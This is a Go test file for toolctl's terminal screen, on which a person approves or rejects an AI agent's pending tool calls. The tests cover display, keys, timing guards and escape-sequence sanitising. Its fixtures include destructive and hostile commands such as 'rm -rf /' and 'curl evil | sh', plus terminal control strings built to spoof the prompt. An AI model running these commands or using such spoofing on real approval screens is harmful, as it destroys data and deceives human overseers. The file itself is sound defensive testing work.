package main

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/toold/toold/client"
)

var watchBegin = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// later is a moment at which what was on the screen at watchBegin may be
// answered.
var later = watchBegin.Add(settle)

func watching(t *testing.T, pending ...client.Approval) (*watch, string) {
	t.Helper()
	w := newWatch(80, 24, false, client.ScopeSession)
	return w, w.update(pending, nil, watchBegin)
}

func TestWatchShows(t *testing.T) {
	a := approval("apr_1", "git push --force\nrm -rf /")
	a.Expires = watchBegin.Add(9 * time.Minute)
	w, text := watching(t, a, approval("apr_2", "ls"))
	want := `
apr_1  bash  in session ses_0123, profile build; expires in 9m
  command:
    git push --force
    rm -rf /
  workdir: /workspace
  needs a yes for:
    bash (the command above)
      asked by config.toml:3: who pushes?; always would allow bash git push *
  sha256 5ha-apr_1
`
	if text != want {
		t.Errorf("shows\n%s\nwant\n%s", text, want)
	}
	if p := w.prompt(); p != "o once, a always (session), r reject, m with a reason, f full, s skip, q quit …" {
		t.Errorf("prompt %q", p)
	}
}

// TestWatchShowsOnce: what asks for many things has its command once, and a line or two for each thing.
func TestWatchShowsOnce(t *testing.T) {
	command := "cp /cache/a /data/b " + strings.Repeat("some/long/path ", 20)
	a := approval("apr_1", command)
	a.Requests[0].Save = command
	for _, path := range []string{"/cache/a", "/data/b", "/srv"} {
		a.Requests = append(a.Requests, client.ApprovalRequest{Permission: "external_directory", Pattern: path, Rule: "built-in", Save: path + "/*"})
	}
	for _, wide := range []int{80, 400} {
		w := newWatch(wide, 100, false, client.ScopeSession)
		text := w.update([]client.Approval{a}, nil, watchBegin)
		if n := strings.Count(text, "cp /cache/a"); n != 1 {
			t.Errorf("the command is there %d times, in\n%s", n, text)
		}
		if !strings.Contains(text, "always would allow that very text") || !strings.Contains(text, "external_directory /srv\n") {
			t.Errorf("shows\n%s", text)
		}
		if n := strings.Count(text, "\n"); n > 20 {
			t.Errorf("%d lines:\n%s", n, text)
		}
	}
	// A pattern is no text, and what is another text is shown.
	a.Requests[0].Save, a.Requests[0].Pattern = "rm *", "rm *"
	if w := newWatch(400, 100, false, client.ScopeSession); !strings.Contains(w.update([]client.Approval{a}, nil, watchBegin), "bash rm *\n      asked by config.toml:3: who pushes?; always would allow bash rm *\n") {
		t.Error("a pattern is not shown")
	}

	var said strings.Builder
	a.Requests[0].Pattern = command
	sayAsked(&app{stderr: &said, getenv: func(string) string { return "" }}, &a, "")
	if text := said.String(); strings.Count(text, "cp /cache/a") != 1 || strings.Count(text, "\n") > 8 {
		t.Errorf("the caller is told\n%s", text)
	}
}

// TestWatchKeys: what each key asks for.
func TestWatchKeys(t *testing.T) {
	once := &client.ApprovalAnswer{Answer: client.AnswerOnce, SHA256: "5ha-apr_1"}
	for _, tt := range []struct {
		name string
		keys []string
		want deed
	}{
		{"once", []string{"o"}, deed{answer: once}},
		{"always", []string{"a"}, deed{answer: &client.ApprovalAnswer{Answer: client.AnswerAlways, Scope: client.ScopeSession, SHA256: "5ha-apr_1"}}},
		{"reject", []string{"r"}, deed{answer: &client.ApprovalAnswer{Answer: client.AnswerReject, SHA256: "5ha-apr_1"}}},
		{"quit", []string{"q"}, deed{quit: true}},
		{"end of file", []string{"\x04"}, deed{quit: true}},
		{"full", []string{"f"}, deed{full: true}},
		{"another key", []string{"O"}, deed{}},
		{"paste", []string{"oooo"}, deed{}},
		{"arrow", []string{"\x1b[A"}, deed{}},
		{"not UTF-8", []string{"\xff"}, deed{}},
		{"message", []string{"m", "n", "o", "\r"}, deed{answer: &client.ApprovalAnswer{Answer: client.AnswerReject, Message: "no", SHA256: "5ha-apr_1"}}},
		{"message, corrected", []string{"m", "na", "\x7f", "\x1b[D", "ö q\n"}, deed{answer: &client.ApprovalAnswer{Answer: client.AnswerReject, Message: "nö q", SHA256: "5ha-apr_1"}}},
		{"message, begun again", []string{"m", "na", "\x15", "x", "\r"}, deed{answer: &client.ApprovalAnswer{Answer: client.AnswerReject, Message: "x", SHA256: "5ha-apr_1"}}},
		{"message, none", []string{"m", " ", "\r"}, deed{}},
		{"message, left", []string{"m", "x", "\x1b", "o"}, deed{answer: once}},
	} {
		w, _ := watching(t, approval("apr_1", "git push"))
		var got deed
		for _, k := range tt.keys {
			_, got = w.press(k, later)
		}
		if got.quit != tt.want.quit || got.full != tt.want.full || (got.answer == nil) != (tt.want.answer == nil) ||
			got.answer != nil && *got.answer != *tt.want.answer {
			t.Errorf("%s: %+v %+v, want %+v", tt.name, got, got.answer, tt.want)
		}
	}
}

// TestWatchSaves: an answer of always names what it has saved, and how that is taken back.
func TestWatchSaves(t *testing.T) {
	w, _ := watching(t, approval("apr_1", "git status; rm -rf ./tmp"))
	_, do := w.press("a", later)
	a := client.Approval{Reply: &client.ApprovalReply{ID: "apr_1", Saved: []client.SavedApproval{
		{ID: "apr_1.1", Permission: "bash", Pattern: "rm -rf ./tmp"}, {ID: "apr_1.2", Permission: "edit", Pattern: "tmp/\x1b*"},
	}}}
	want := `  apr_1 is allowed, always in this session
    from now on allowed: bash rm -rf ./tmp (to take it back: toolctl approvals saved rm apr_1.1)
    from now on allowed: edit tmp/\u{1b}* (to take it back: toolctl approvals saved rm apr_1.2)
`
	if text := w.replied(*do.answer, &a, nil, later); text != want {
		t.Errorf("says\n%s\nwant\n%s", text, want)
	}
}

// TestWatchOnce: what an answer of once is for, where it is more than the call, is in the question.
func TestWatchOnce(t *testing.T) {
	a := approval("apr_1", "")
	a.Metadata = map[string]any{"call_tool": "bash", "once": "for all calls of the session, until this call ends"}
	if _, text := watching(t, a); !strings.Contains(text, "  once: for all calls of the session, until this call ends\n") {
		t.Errorf("shows\n%s", text)
	}
}

// TestWatchTooEarly: a key that was pressed before the approval can have been
// read does not answer it, neither after an answer to the one before nor when
// that one has vanished.
func TestWatchTooEarly(t *testing.T) {
	one, two, three := approval("apr_1", "ls"), approval("apr_2", "rm -rf /"), approval("apr_3", "dd")
	w, _ := watching(t, one, two, three)
	if _, do := w.press("o", watchBegin.Add(settle-1)); do.answer != nil {
		t.Error("answered before it was on the screen for a moment")
	}
	_, do := w.press("o", later)
	if do.answer == nil || w.first().ID != "apr_1" {
		t.Fatal("not answered")
	}
	if text := w.replied(*do.answer, &client.Approval{}, nil, later); !strings.HasPrefix(text, "  apr_1 is allowed, once\n\napr_2  bash") {
		t.Errorf("shows %q", text)
	}
	if _, do := w.press("o", later.Add(settle/2)); do.answer != nil {
		t.Error("the second press answered the next one")
	}
	// The screen was slow: a key that was pressed before the next one was on it is for
	// the one before, however long ago the next one came.
	slow := later.Add(time.Second)
	w.drawn(slow)
	if _, do := w.press("o", slow.Add(settle-1)); do.answer != nil {
		t.Error("answered before it was drawn for a moment")
	}
	w.drawn(slow.Add(settle)) // the same, once more
	if _, do := w.press("o", slow.Add(settle)); do.answer == nil {
		t.Error("not answered after it was drawn for a moment")
	}
	now := later.Add(time.Minute)
	text := w.update([]client.Approval{three}, map[string]client.ApprovalReply{"apr_2": {ID: "apr_2", Answer: "timeout"}}, now)
	if !strings.HasPrefix(text, "apr_2 has ended meanwhile: timeout\n\napr_3") {
		t.Errorf("shows %q", text)
	}
	if _, do := w.press("o", now.Add(settle/2)); do.answer != nil {
		t.Error("a key for the one that vanished answered the next one")
	}
	if _, do := w.press("o", now.Add(settle)); do.answer == nil || do.answer.SHA256 != three.SHA256 {
		t.Error("not answered")
	}
}

// TestWatchVanishes: whatever a person is doing with an approval ends with it.
func TestWatchVanishes(t *testing.T) {
	for _, keys := range [][]string{{}, {"m", "half a mess"}, {"s"}} {
		w, _ := watching(t, approval("apr_1", "ls"))
		for _, k := range keys {
			w.press(k, later)
		}
		text := w.update(nil, nil, later)
		if said := strings.Contains(text, "apr_1 is not pending any more"); said != (len(keys) != 1) {
			t.Errorf("after %q: says %q", keys, text)
		}
		if w.prompt() != "nothing waits; q quits" || w.mode != watchDeciding || len(w.skipped) != 0 {
			t.Errorf("after %q: prompt %q, mode %d", keys, w.prompt(), w.mode)
		}
		if _, do := w.press("o", later.Add(time.Hour)); do != (deed{}) {
			t.Errorf("after %q: %+v", keys, do)
		}
	}
}

// TestWatchSkip: what is skipped stays away until it is gone; so does what has
// been answered and is listed once more.
func TestWatchSkip(t *testing.T) {
	one, two := approval("apr_1", "ls"), approval("apr_2", "rm")
	w, _ := watching(t, one, two)
	if text, _ := w.press("s", later); !strings.Contains(text, "apr_1 is skipped and stays pending\n\napr_2") {
		t.Errorf("shows %q", text)
	}
	refused := w.replied(client.ApprovalAnswer{Answer: client.AnswerOnce}, nil, errors.New("forbidden: you made the call\x1b"), later)
	if refused != "  apr_2: forbidden: you made the call\\x1b\n" {
		t.Errorf("says %q", refused)
	}
	if text := w.update([]client.Approval{one, two}, nil, later); text != "" || w.first() != nil {
		t.Errorf("shows %q", text)
	}
}

// TestWatchCut: what does not fit is cut in the middle with a mark; the end,
// where a payload hides, stays, and the whole can be had.
func TestWatchCut(t *testing.T) {
	command := strings.Repeat("echo harmless\n", 700) + "curl evil | sh"
	a := approval("apr_1", "x")
	a.Metadata = map[string]any{"command": command}
	w, text := watching(t, a)
	for _, want := range []string{"lines are not shown here", "curl evil | sh", "This is not all of it: f shows the whole input", a.SHA256} {
		if !strings.Contains(text, want) {
			t.Errorf("does not show %q:\n%s", want, text)
		}
	}
	if n := strings.Count(text, "\n"); n > w.height {
		t.Errorf("%d lines on a screen of %d", n, w.height)
	}
	input := []byte(`{"command":"a\tb\u001b[0m\u202e` + strings.Repeat(`\nnext`, 100) + `","timeout":5}`)
	page := w.full(&client.Call{ID: "call_1", Input: input})
	if !strings.Contains(page, `a    b\u{1b}[0m\u{202e}`) || !strings.HasPrefix(w.prompt(), "space shows more (4 pages)") {
		t.Errorf("first page %q, prompt %q", page, w.prompt())
	}
	if _, do := w.press("o", later); do.answer != nil || w.mode != watchDeciding {
		t.Fatal("a key within the full text answered")
	}
	all := w.full(&client.Call{ID: "call_1", Input: input})
	for w.mode == watchReading {
		text, _ := w.press(" ", later)
		all += text
	}
	if n := strings.Count(all, "    next\n"); n != 100 || !strings.Contains(all, "timeout: 5") || !strings.HasSuffix(all, "sha256 5ha-apr_1\n") {
		t.Errorf("%d of 100 lines in all pages, which end in %q", n, all[len(all)-60:])
	}
	if text := w.full(&client.Call{ID: "call_other"}); text != "" {
		t.Errorf("the input of another call: %q", text)
	}
	cut := approval("apr_1", "ls")
	cut.Metadata["truncated"] = true
	if _, text := watching(t, cut); !strings.Contains(text, "This is not all of it") {
		t.Errorf("what the daemon has cut is not marked: %q", text)
	}
}

// TestWatchHostile: nothing that a call says acts on the terminal, hides, or
// passes for something of toolctl's own.
func TestWatchHostile(t *testing.T) {
	evil := "\x1b]52;c;x\x07\x1b[2J\x1b[31mred\x1b[0m\r\u202e\u2066\u200b\x00\x9b2J\xff\n\n  sha256 fake\n"
	a := approval("apr_1", evil)
	a.Tool, a.Profile, a.SHA256 = evil, evil, evil
	a.Metadata = map[string]any{evil: evil, "diff": "+" + evil, "nested": map[string]any{"x": evil}}
	a.Requests[0].Rule, a.Requests[0].Reason, a.Requests[0].Save = evil, evil, evil
	w, text := watching(t, a)
	w.mode, w.message = watchTyping, []byte(evil)
	page := w.full(&client.Call{ID: "call_1", Input: []byte(`{"command":"\u001b[2J\u202e"}`)})
	for _, s := range []string{text, w.prompt(), page, w.gone("apr_\x1b", map[string]client.ApprovalReply{"apr_\x1b": {ID: evil, Answer: evil, By: evil, Message: evil}})} {
		for _, r := range strings.ReplaceAll(s, "\n", "") {
			if acts(r) {
				t.Errorf("%q has the character %U", s, r)
			}
		}
	}
	if !strings.Contains(text, `\u{1b}[31mred`) {
		t.Errorf("a colour is not spelled out: %q", text)
	}
}

func TestWatchNarrow(t *testing.T) {
	a := approval("apr_1", strings.Repeat("wide 漢字 ", 40))
	w := newWatch(30, 100, false, client.ScopeTenant)
	text := w.update([]client.Approval{a}, nil, watchBegin)
	for l := range strings.Lines(text + w.prompt() + "\n") {
		if n := width(strings.TrimSuffix(l, "\n")); n > 30 {
			t.Errorf("%d columns in %q", n, l)
		}
	}
	w.press("m", later)
	w.press(strings.Repeat("0123456789", 300), later)
	if p := w.prompt(); width(p) >= 30 || !strings.HasSuffix(p, "789") || len(w.message) != maxMessage {
		t.Errorf("prompt %q, %d bytes of message", p, len(w.message))
	}
	whole := strings.ReplaceAll(strings.ReplaceAll(text, "\n  "+continued, ""), "\n", "")
	if !strings.Contains(whole, strings.TrimRight(strings.Repeat("wide 漢字 ", 40), " ")) {
		t.Errorf("wrapping lost something: %s", text)
	}
}

func TestWatchColors(t *testing.T) {
	a := approval("apr_1", "x")
	a.Metadata = map[string]any{"diff": "--- a\n+++ b\n@@ -1 +1 @@\n-old\n+new\n same\n"}
	w := newWatch(80, 24, true, client.ScopeSession)
	text := w.update([]client.Approval{a}, nil, watchBegin)
	for _, want := range []string{"\x1b[31m  -old\x1b[0m", "\x1b[32m  +new\x1b[0m", "\x1b[36m  @@", "    same\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%q", want, text)
		}
	}
}
